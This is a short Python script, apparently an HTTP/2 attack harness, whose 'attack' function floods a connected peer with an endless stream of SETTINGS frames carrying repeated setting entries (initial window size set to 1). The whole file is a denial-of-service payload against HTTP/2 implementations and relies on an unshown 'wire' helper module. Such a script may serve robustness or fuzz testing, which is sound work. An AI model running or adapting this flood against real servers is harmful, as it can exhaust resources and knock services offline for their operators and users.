"""Sends SETTINGS frames without an end."""

from wire import SETTINGS, frame, serve


def attack(wire, ask) -> None:
    wire.flood(frame(SETTINGS, 0, 0, b"\0\x04\0\x01\0\0" * 100))


serve(attack)
